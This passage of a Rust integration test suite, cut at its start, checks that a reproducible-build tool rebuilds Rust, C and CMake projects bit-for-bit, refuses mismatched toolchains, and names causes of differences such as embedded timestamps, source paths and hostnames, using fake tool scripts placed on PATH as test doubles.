        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .find(|n| n.starts_with("nightly"))
        .expect("a nightly toolchain is installed");
    let r = Release::new();
    let run = r
        .example_args("0.1.0")
        .args(["--include-dependencies"])
        .build(&["cargo", "build", "--release", "--locked"])
        .command()
        .env("RUSTUP_TOOLCHAIN", &nightly)
        .env("SOURCE_DATE_EPOCH", "1700000000")
        .run();
    run.ok();
    let b = r.bundle("0.1.0");
    let m: serde_json::Value = vouch_tests::manifest_json(&b);
    let recorded = m["build"]["toolchain"]["rustc"].as_str().unwrap().to_string();
    assert!(recorded.contains("nightly"), "{recorded}");
    let copy = deeper_copy(&r);
    let run = rebuild_cmd(&b, &copy, &trust(&r), &["--format", "json"]).env_remove("RUSTUP_TOOLCHAIN").run();
    run.ok();
    let report: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(report["toolchain"]["rustc"], recorded.as_str(), "rebuilt with the recorded nightly");
    assert_eq!(report["toolchain_matches"], true);
    assert_eq!(report["reproduced"], true);
}

/// Writes the executable shell scripts `tools` (name, text) into
/// `vendor-bin/` of `r`: the release machine's other tools. Returns the
/// `PATH` that finds them first.
fn fake_tools(r: &Release, tools: &[(&str, &str)]) -> String {
    use std::os::unix::fs::PermissionsExt;
    let fake = r.dir.mkdir("vendor-bin");
    for (name, script) in tools {
        let p = fake.join(name);
        std::fs::write(&p, script).unwrap();
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    format!("{}:{}", fake.display(), std::env::var("PATH").unwrap())
}

#[test]
fn a_rust_toolchain_that_is_not_installed_is_refused_with_the_install_command() {
    let r = Release::new();
    // The release machine's rustc, as `rustc -vV` put it: a version this
    // machine has not installed (rust-toolchain.toml pins it).
    let host = String::from_utf8(std::process::Command::new("rustc").arg("-vV").output().unwrap().stdout)
        .unwrap()
        .lines()
        .find_map(|l| l.strip_prefix("host: ").map(str::to_string))
        .unwrap();
    let rustc = format!(
        "#!/bin/sh\nprintf 'rustc 1.80.0 (051478957 2024-07-21)\\nbinary: rustc\\ncommit-hash: 051478957371ee0084a7c0913941d2a8c4757bb9\\nhost: {host}\\n'\n"
    );
    let path = fake_tools(
        &r,
        &[
            ("rustc", &rustc),
            // Its cargo too (rustup's proxy would look for the pinned toolchain).
            ("cargo", "#!/bin/sh\nprintf 'cargo 1.80.0 (376290515 2024-07-16)\\n'\n"),
        ],
    );
    let src = r.dir.mkdir("pinned-src");
    std::fs::write(src.join("build.sh"), "printf 'built\\n' > out.bin\n").unwrap();
    std::fs::write(src.join("rust-toolchain.toml"), "[toolchain]\nchannel = \"1.80.0\"\n").unwrap();
    r.args(&src, "pinned", "1.0.0")
        .args(["--no-git", "--exclude", "out.bin", "--artifact", "out.bin"])
        .build(&["sh", "build.sh"])
        .command()
        .env("PATH", &path)
        .run()
        .ok();
    let b = r.bundles.join("pinned-1.0.0");
    let work = r.dir.mkdir("work");
    let w = work.to_str().unwrap();
    rebuild_cmd(&b, &src, &trust(&r), &["--exclude", "out.bin", "--workdir", w])
        .run()
        .code(2)
        .says("rustc 1.80.0 (051478957 2024-07-21)")
        .says("is not installed here")
        .says("rustup toolchain install 1.80.0");
    assert!(is_empty(&work), "nothing was built");
    // Asked to, it rebuilds with what there is, and says so.
    rebuild_cmd(&b, &src, &trust(&r), &["--exclude", "out.bin", "--workdir", w, "--allow-toolchain-mismatch"])
        .run()
        .ok()
        .says("REPRODUCED")
        .says("toolchain differs from the record");
}

/// A C project of several files, a header and a Makefile honouring CFLAGS;
/// `greet_c` is the body of src/greet.c, `make_greet` the recipe of
/// src/greet.o (default: like the others).
fn c_project(dir: &Path, greet_c: &str, make_greet: Option<&str>) {
    std::fs::create_dir_all(dir.join("src")).unwrap();
    let w = |p: &str, t: &str| std::fs::write(dir.join(p), t).unwrap();
    w("src/greet.h", "#ifndef GREET_H\n#define GREET_H\nconst char *greeting(void);\nint answer(void);\n#endif\n");
    w("src/greet.c", greet_c);
    w("src/answer.c", "#include \"greet.h\"\nint answer(void) { return 42; }\n");
    w(
        "src/main.c",
        "#include <stdio.h>\n#include <assert.h>\n#include \"greet.h\"\nint main(void) { assert(answer() == 42); printf(\"%s %d\\n\", greeting(), answer()); return 0; }\n",
    );
    let greet = make_greet.map(|r| format!("src/greet.o: src/greet.c src/greet.h\n\t{r}\n")).unwrap_or_default();
    w(
        "Makefile",
        &format!(
            "OBJS = src/main.o src/greet.o src/answer.o\nhello: $(OBJS)\n\t$(CC) $(LDFLAGS) -o $@ $(OBJS)\n{greet}src/%.o: src/%.c src/greet.h\n\t$(CC) $(CFLAGS) -c -o $@ $<\n"
        ),
    );
}

/// Releases the C project at `<r.dir>/c-src` with CFLAGS="-O2 -g"; returns the bundle.
fn release_c(
    r: &Release,
    greet_c: &str,
    make_greet: Option<&str>,
    with: impl FnOnce(TestCommand) -> TestCommand,
) -> (std::path::PathBuf, std::path::PathBuf) {
    let src = r.dir.join("c-src");
    c_project(&src, greet_c, make_greet);
    let cmd = r
        .args(&src, "chello", "1.0.0")
        .args(["--no-git", "--exclude", "hello", "--exclude", "src/*.o", "--artifact", "hello", "--include-artifacts"])
        .build(&["make"])
        .command()
        .env("CFLAGS", "-O2 -g")
        .env_remove("CC")
        .env_remove("CXXFLAGS");
    with(cmd).run().ok();
    (src, r.bundles.join("chello-1.0.0"))
}

/// A copy of the C project's sources (no build outputs) at a deeper path.
fn c_copy(r: &Release, src: &Path) -> std::path::PathBuf {
    let copy = r.dir.join("reviewer/a/b/c-src");
    std::fs::create_dir_all(copy.join("src")).unwrap();
    for f in ["Makefile", "src/greet.h", "src/greet.c", "src/answer.c", "src/main.c"] {
        std::fs::copy(src.join(f), copy.join(f)).unwrap();
    }
    copy
}

#[test]
fn a_c_project_with_debug_info_reproduces_bit_for_bit_in_another_directory() {
    let r = Release::new();
    let (src, b) =
        release_c(&r, "#include \"greet.h\"\nconst char *greeting(void) { return __FILE__; }\n", None, |c| c);
    let m: serde_json::Value = vouch_tests::manifest_json(&b);
    let build = &m["build"];
    assert_eq!(build["env"]["CFLAGS"], "-O2 -g", "the vendor's flags, recorded as given");
    assert_eq!(build["path_remap"], serde_json::json!([{"role": "source", "to": "/vouch/source"}]));
    for tool in ["cc", "make"] {
        assert!(build["toolchain"][tool].as_str().is_some_and(|v| !v.is_empty()), "{tool} recorded: {build}");
    }
    let bin = std::fs::read(src.join("hello")).unwrap();
    assert!(!String::from_utf8_lossy(&bin).contains(src.to_str().unwrap()), "the source path is mapped away");
    assert!(String::from_utf8_lossy(&bin).contains("/vouch/source"), "onto the fixed name");
    let copy = c_copy(&r, &src);
    rebuild_cmd(&b, &copy, &trust(&r), &[]).run().ok().says("identical  hello").says("REPRODUCED");

    // The recorded make is checked: released with another make, the
    // rebuild is refused before it runs.
    let r2 = Release::new();
    let path = fake_tools(
        &r2,
        &[(
            "make",
            "#!/bin/sh\nif [ \"$1\" = --version ]; then echo 'GNU Make 9.9'; else exec /usr/bin/make \"$@\"; fi\n",
        )],
    );
    let (src2, b2) =
        release_c(&r2, "#include \"greet.h\"\nconst char *greeting(void) { return __FILE__; }\n", None, |c| {
            c.env("PATH", &path)
        });
    let work = r2.dir.mkdir("work");
    rebuild_cmd(&b2, &c_copy(&r2, &src2), &trust(&r2), &["--workdir", work.to_str().unwrap()])
        .run()
        .code(2)
        .says("make: recorded \"GNU Make 9.9\"")
        .says("--allow-toolchain-mismatch");
    assert!(is_empty(&work), "nothing was built");
}

/// The named causes in the JSON report of a rebuild that did not reproduce
/// (exit 1).
fn causes(run: &vouch_tests::Run) -> Vec<(String, String, String)> {
    run.code(1);
    let report: serde_json::Value = serde_json::from_str(&run.stdout).unwrap_or_else(|e| panic!("{e}: {}", run.stdout));
    report["artifacts"][0]["causes"]
        .as_array()
        .cloned()
        .unwrap_or_default()
        .iter()
        .map(|c| {
            (
                c["kind"].as_str().unwrap().to_string(),
                c["side"].as_str().unwrap().to_string(),
                c["found"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

#[test]
fn a_difference_names_its_cause_a_build_time() {
    let r = Release::new();
    let (src, b) = release_c(
        &r,
        "#include \"greet.h\"\nconst char *greeting(void) { return \"built \" __DATE__ \" \" __TIME__; }\n",
        None,
        |c| c.env_remove("SOURCE_DATE_EPOCH"),
    );
    let copy = c_copy(&r, &src);
    // __TIME__ has a one-second resolution.
    std::thread::sleep(std::time::Duration::from_millis(1100));
    let human = rebuild_cmd(&b, &copy, &trust(&r), &[]).run();
    human
        .code(1)
        .says("likely cause: the rebuild embeds a build time")
        .says("SOURCE_DATE_EPOCH")
        .says("first difference at byte");
    forget_diffoscope(&human);
    let c = causes(&rebuild_cmd(&b, &copy, &trust(&r), &["--format", "json"]).run());
    assert!(c.iter().any(|(k, s, f)| k == "timestamp" && s == "rebuilt" && f.starts_with("built ")), "{c:?}");
    assert!(c.iter().any(|(k, s, _)| k == "timestamp" && s == "release"), "{c:?}");
}

#[test]
fn a_difference_names_its_cause_an_absolute_source_path() {
    let r = Release::new();
    // A recipe that drops CFLAGS (and with it the prefix map) and compiles
    // by absolute path: __FILE__ is the build's own directory.
    let (src, b) = release_c(
        &r,
        "#include \"greet.h\"\nconst char *greeting(void) { return __FILE__; }\n",
        Some("$(CC) -O2 -c -o $@ $(CURDIR)/src/greet.c"),
        |c| c,
    );
    let copy = c_copy(&r, &src);
    let c = causes(&rebuild_cmd(&b, &copy, &trust(&r), &["--format", "json"]).run());
    let canon = src.canonicalize().unwrap();
    assert!(c.contains(&("release_source_path".into(), "release".into(), canon.display().to_string())), "{c:?}");
    assert!(
        c.iter().any(|(k, s, f)| k == "work_directory" && s == "rebuilt" && f.ends_with("/source/src/greet.c")),
        "{c:?}"
    );
    let human = rebuild_cmd(&b, &copy, &trust(&r), &[]).run();
    human
        .code(1)
        .says(&format!("likely cause: the release embeds the release's source path \"{}\"", canon.display()))
        .says("likely cause: the rebuild embeds the rebuild's work directory");
    forget_diffoscope(&human);
}

#[test]
fn a_difference_names_its_cause_the_build_host() {
    let r = Release::new();
    let (src, b) = release_c(
        &r,
        "#include \"greet.h\"\nconst char *greeting(void) { return \"on \" HOST; }\n",
        Some("$(CC) $(CFLAGS) -DHOST='\"'$$(cat /proc/sys/kernel/hostname)'\"' -c -o $@ src/greet.c"),
        |c| c,
    );
    let copy = c_copy(&r, &src);
    // The rebuild runs on another host (a UTS namespace of its own).
    let script = format!(
        "hostname rebuildhost && exec {} rebuild {} --source {} --trust {} --format json",
        vouch_bin().display(),
        b.display(),
        copy.display(),
        trust(&r).display()
    );
    let run = TestCommand::new("unshare", ["-ru", "--", "sh", "-c", &script]).env_remove("SOURCE_DATE_EPOCH").run();
    let c = causes(&run);
    assert!(c.contains(&("build_host".into(), "rebuilt".into(), "on rebuildhost".into())), "{c:?}");
}

/// The files of a CMake project in C and C++: a static library of a C and a
/// C++ file, a header in its own directory and a C++ program linking it.
const CMAKE_PROJECT: &[(&str, &str)] = &[
    (
        "CMakeLists.txt",
        "cmake_minimum_required(VERSION 3.13)\nproject(chello C CXX)\nadd_library(greet STATIC src/greet.c src/answer.cpp)\ntarget_include_directories(greet PUBLIC include)\nadd_executable(hello src/main.cpp)\ntarget_link_libraries(hello greet)\n",
    ),
    (
        "include/greet.h",
        "#ifndef GREET_H\n#define GREET_H\n#ifdef __cplusplus\nextern \"C\" {\n#endif\nconst char *greeting(void);\nint answer(void);\n#ifdef __cplusplus\n}\n#endif\n#endif\n",
    ),
    ("src/greet.c", "#include \"greet.h\"\nconst char *greeting(void) { return __FILE__; }\n"),
    (
        "src/answer.cpp",
        "#include <string>\n#include \"greet.h\"\nint answer(void) { return static_cast<int>(std::string(__FILE__).size() > 0) * 42; }\n",
    ),
    (
        "src/main.cpp",
        "#include <cstdio>\n#include \"greet.h\"\nint main() { std::printf(\"%s %d\\n\", greeting(), answer()); return 0; }\n",
    ),
];

/// Writes the CMake project at `dir`.
fn cmake_project(dir: &Path) {
    for (path, text) in CMAKE_PROJECT {
        let p = dir.join(path);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    }
}

/// Releases the CMake project at `<r.dir>/cmake-src`, built in `build/`
/// inside it with CFLAGS and CXXFLAGS "-O2 -g"; returns the source and the bundle.
fn release_cmake(
    r: &Release,
    with: impl FnOnce(TestCommand) -> TestCommand,
) -> (std::path::PathBuf, std::path::PathBuf) {
    let src = r.dir.join("cmake-src");
    cmake_project(&src);
    let cmd = r
        .args(&src, "cmhello", "1.0.0")
        .args(["--no-git", "--artifact", "build/hello", "--include-artifacts"])
        .build(&["sh", "-c", "cmake -S . -B build && cmake --build build"])
        .command()
        .env("CFLAGS", "-O2 -g")
        .env("CXXFLAGS", "-O2 -g")
        .env_remove("CC")
        .env_remove("CXX")
        .env_remove("CMAKE_GENERATOR");
    with(cmd).run().ok();
    (src, r.bundles.join("cmhello-1.0.0"))
}

/// A copy of the CMake project's sources (no build directory) at a deeper path.
fn cmake_copy(r: &Release) -> std::path::PathBuf {
    let copy = r.dir.join("reviewer/a/b/cmake-src");
    cmake_project(&copy);
    copy
}

#[test]
fn a_cmake_project_in_c_and_cxx_with_debug_info_reproduces_bit_for_bit_in_another_directory() {
    vouch_tests::peer_tool("cmake");
    let r = Release::new();
    let (src, b) = release_cmake(&r, |c| c);
    let m: serde_json::Value = vouch_tests::manifest_json(&b);
    let build = &m["build"];
    assert_eq!(build["env"]["CFLAGS"], "-O2 -g", "the vendor's flags, recorded as given");
    assert_eq!(build["env"]["CXXFLAGS"], "-O2 -g");
    assert_eq!(build["path_remap"], serde_json::json!([{"role": "source", "to": "/vouch/source"}]));
    for tool in ["cc", "c++", "cmake", "make"] {
        assert!(build["toolchain"][tool].as_str().is_some_and(|v| !v.is_empty()), "{tool} recorded: {build}");
    }
    assert!(build["toolchain"]["cmake"].as_str().unwrap().starts_with("cmake version "), "{build}");
    // CMake compiles by absolute path from its build directory: both are
    // mapped, in __FILE__ and in the debug info.
    let bin = String::from_utf8_lossy(&std::fs::read(src.join("build/hello")).unwrap()).into_owned();
    let canon = src.canonicalize().unwrap();
    assert!(!bin.contains(canon.to_str().unwrap()), "the source path is mapped away");
    assert!(bin.contains("/vouch/source/src/greet.c"), "__FILE__ on the fixed name");
    assert!(bin.contains("/vouch/source/build"), "the build directory (DW_AT_comp_dir) on the fixed name");
    let copy = cmake_copy(&r);
    rebuild_cmd(&b, &copy, &trust(&r), &[]).run().ok().says("identical  build/hello").says("REPRODUCED");

    // The recorded cmake is checked: released with another cmake (one that
    // only says so and leaves a program behind), the rebuild is refused
    // before it runs.
    let r2 = Release::new();
    let path = fake_tools(
        &r2,
        &[(
            "cmake",
            "#!/bin/sh\nif [ \"$1\" = --version ]; then echo 'cmake version 9.9.9'; else mkdir -p build && : > build/hello; fi\n",
        )],
    );
    let (_, b2) = release_cmake(&r2, |c| c.env("PATH", &path));
    let work = r2.dir.mkdir("work");
    rebuild_cmd(&b2, &cmake_copy(&r2), &trust(&r2), &["--workdir", work.to_str().unwrap()])
        .run()
        .code(2)
        .says("cmake: recorded \"cmake version 9.9.9\"")
        .says("--allow-toolchain-mismatch");
    assert!(is_empty(&work), "nothing was built");
}
